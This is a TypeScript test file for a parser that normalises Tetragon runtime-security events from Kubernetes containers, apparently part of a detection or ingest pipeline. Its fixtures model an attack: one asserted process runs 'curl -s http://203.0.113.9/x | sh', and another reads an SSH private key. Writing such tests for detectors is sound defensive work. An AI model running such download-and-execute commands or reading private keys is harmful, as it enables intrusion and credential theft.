import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { describe, it } from "node:test";
import fc from "fast-check";
import { parseSensorBatch } from "./ingest.js";
import { splitTetragonArguments, toTetragonEvent } from "./tetragon.js";

const payloadOf = (name: string) => {
  const batch = parseSensorBatch("tetragon", readFileSync(new URL(`./fixtures/tetragon/${name}`, import.meta.url)));
  assert.deepEqual(batch.rejected, []);
  return batch.events[0]?.payload as Record<string, unknown>;
};

function aKprobe(fn: string, args: unknown[], extra: Record<string, unknown> = {}) {
  return {
    process_kprobe: { process: { pid: 7, binary: "/usr/bin/python3" }, function_name: fn, args, ...extra },
    time: "2024-05-01T10:00:00Z",
  };
}

describe("toTetragonEvent", () => {
  it("normalises a process_exec with pod, container, parent and ancestors", () => {
    const p = payloadOf("process-exec.ndjson");
    assert.equal(p.category, "exec");
    assert.equal(p.severity, "info");
    assert.equal(p.node, "gpu-node-a");
    assert.deepEqual(p.container, {
      id: "3ad7b26ded6d",
      name: "vllm",
      image: "docker.io/vllm/vllm-openai:v0.6.3",
      imageDigest: "sha256:0e5d7c3a9b1f4e6d8c2a0b9e7f5d3c1a8b6e4f2d0c9a7b5e3f1d8c6a4b2e0f9d",
    });
    assert.deepEqual(p.k8s, { namespace: "inference", pod: "vllm-7d9c5b6f4-x2x8q" });
    assert.deepEqual(p.process, {
      pid: 48213,
      binary: "/bin/sh",
      args: ["-c", "curl -s http://203.0.113.9/x | sh"],
      cwd: "/app",
      uid: 1000,
    });
    assert.deepEqual(
      (p.ancestors as { binary: string }[]).map((a) => a.binary),
      ["/usr/bin/python3", "/usr/bin/containerd-shim-runc-v2"],
    );
  });

  it("normalises a process_exit with its signal", () => {
    const p = payloadOf("process-exit.ndjson");
    assert.equal(p.category, "exit");
    assert.equal(p.message, "process_exit /bin/sh signal=SIGKILL");
  });

  it("makes tcp_connect a network event from the sock_arg", () => {
    const p = payloadOf("kprobe-tcp-connect.ndjson");
    assert.equal(p.category, "network");
    assert.equal(p.severity, "medium");
    assert.equal(p.rule, "palisade-ai");
    assert.deepEqual(p.network, {
      protocol: "tcp",
      srcIp: "10.244.1.7",
      srcPort: 43188,
      dstIp: "203.0.113.9",
      dstPort: 80,
    });
  });

  it("makes security_file_permission a file event, read or write by its mask", () => {
    assert.deepEqual(payloadOf("kprobe-file-read.ndjson").file, { path: "/root/.ssh/id_ed25519", operation: "read" });
    const write = toTetragonEvent(
      aKprobe("security_file_permission", [{ file_arg: { path: "/models/a" } }, { int_arg: 2 }]),
    );
    assert.ok(write.ok);
    assert.deepEqual(write.payload.file, { path: "/models/a", operation: "write" });
  });

  it("raises an enforced hook (SIGKILL) to high and reads the digest from a bare image id", () => {
    const p = payloadOf("kprobe-gpu-sigkill.ndjson");
    assert.equal(p.category, "file");
    assert.equal(p.severity, "high");
    assert.deepEqual(p.file, { path: "/dev/nvidia0", operation: "open" });
    assert.equal((p.container as { imageDigest: string }).imageDigest?.slice(0, 13), "sha256:aa11bb");
    assert.equal((p.container as { id: string }).id, "c0ffee012345");
  });

  it("classifies hooks by their arguments first, then by the function name", () => {
    const cases: [unknown[], string, string][] = [
      [[{ sockaddr_arg: { family: "AF_INET", addr: "1.1.1.1", port: 53 } }], "__sys_connect", "network"],
      [[{ int_arg: 3 }], "tcp_sendmsg", "network"],
      [[{ string_arg: "/etc/passwd" }, { int_arg: 0 }], "__x64_sys_openat", "file"],
      [[{ int_arg: 3 }], "security_file_open", "file"],
      [[{ int_arg: 9 }], "sys_ptrace", "other"],
    ];
    for (const [args, fn, category] of cases) {
      const r = toTetragonEvent(aKprobe(fn, args));
      assert.ok(r.ok, fn);
      assert.equal(r.payload.category, category, fn);
    }
  });

  it("rejects lines that are not a supported Tetragon event", () => {
    for (const raw of [
      { process_throttle: {}, time: "2024-05-01T10:00:00Z" },
      { process_exec: { process: { pid: 1 } }, time: "2024-05-01T10:00:00Z" },
      { process_exec: { process: { binary: "/x" } }, time: "not a time" },
    ]) {
      const r = toTetragonEvent(raw);
      assert.equal(r.ok, false);
    }
  });
});

describe("splitTetragonArguments", () => {
  it("splits on spaces and keeps quoted arguments whole", () => {
    assert.deepEqual(splitTetragonArguments('-c "echo hello world" --flag'), ["-c", "echo hello world", "--flag"]);
    assert.deepEqual(splitTetragonArguments(' "a b"'), ["a b"]);
    assert.deepEqual(splitTetragonArguments('-g "daemon off;"'), ["-g", "daemon off;"]);
    assert.deepEqual(splitTetragonArguments('print("hi")'), ['print("hi")']);
    assert.deepEqual(splitTetragonArguments('"unclosed x'), ['"unclosed', "x"]);
    assert.deepEqual(splitTetragonArguments(""), []);
  });

  it("inverts Tetragon's encoding for arguments without quotes (property)", () => {
    const arg = fc
      .string({ minLength: 1, maxLength: 12 })
      .filter((s) => !s.includes('"') && s.trim() === s && !/ {2}/.test(s));
    fc.assert(
      fc.property(fc.array(arg, { maxLength: 8 }), (argv) => {
        // How Tetragon writes argv (pkg/process ArgsDecoder): space-joined, spaced ones quoted.
        const encoded = argv
          .map((a) => (a.includes(" ") ? ` "${a}"` : ` ${a}`))
          .join("")
          .trimStart();
        assert.deepEqual(splitTetragonArguments(encoded), argv);
      }),
      { numRuns: 300 },
    );
  });

  it("stays linear on many unclosed quotes", () => {
    const hostile = '"a"b '.repeat(200_000);
    const started = performance.now();
    assert.equal(splitTetragonArguments(hostile).length, 200_000);
    assert.ok(performance.now() - started < 2000);
  });
});
